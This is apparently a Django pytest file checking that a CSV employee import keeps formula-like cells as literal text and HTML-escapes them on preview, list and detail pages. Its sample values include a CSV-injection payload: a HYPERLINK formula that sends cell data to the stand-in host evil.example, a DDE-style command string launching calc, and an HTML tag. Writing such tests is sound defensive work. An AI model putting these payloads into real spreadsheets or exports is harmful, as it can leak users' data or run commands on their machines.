"""Cells that a spreadsheet would read as a formula (= + - @) are stored as typed and shown as text."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from organizations.models import Employee, PeopleImport
from tests.kit import url

pytestmark = pytest.mark.django_db

FIRST_NAME = '=HYPERLINK("http://evil.example/?"&A1,"<b>Klik</b>")'
LAST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
JOB_TITLE = "+31 6 12345678"
TEAM = "-Verkoop"


def test_formula_like_cells_are_stored_verbatim_and_rendered_escaped(tenant_a, hr):
    line = ";".join(['"' + FIRST_NAME.replace('"', '""') + '"', f'"{LAST_NAME}"', JOB_TITLE, TEAM])
    content = f"first_name;last_name;job_title;team;email\n{line};f@alfa.example\n"
    upload = SimpleUploadedFile("people.csv", content.encode())
    hr.post(url("organizations:import_upload", tenant_a.organization), {"file": upload})
    people_import = PeopleImport.objects.get()
    preview = hr.get(url("organizations:import_preview", tenant_a.organization, import_id=people_import.pk))
    assert "&lt;b&gt;Klik&lt;/b&gt;" in preview.content.decode()
    hr.post(url("organizations:import_apply", tenant_a.organization, import_id=people_import.pk))

    person = Employee.objects.select_related("team").get(user__email="f@alfa.example")
    assert (person.first_name, person.last_name, person.job_title, person.team.name) == (
        FIRST_NAME,
        LAST_NAME,
        JOB_TITLE,
        TEAM,
    )
    for page in ("people_list", "person_detail"):
        kwargs = {"employee_id": person.pk} if page == "person_detail" else {}
        html = hr.get(url(f"organizations:{page}", tenant_a.organization, **kwargs)).content.decode()
        assert "<b>Klik</b>" not in html
        assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;&lt;b&gt;Klik&lt;/b&gt;&quot;)" in html
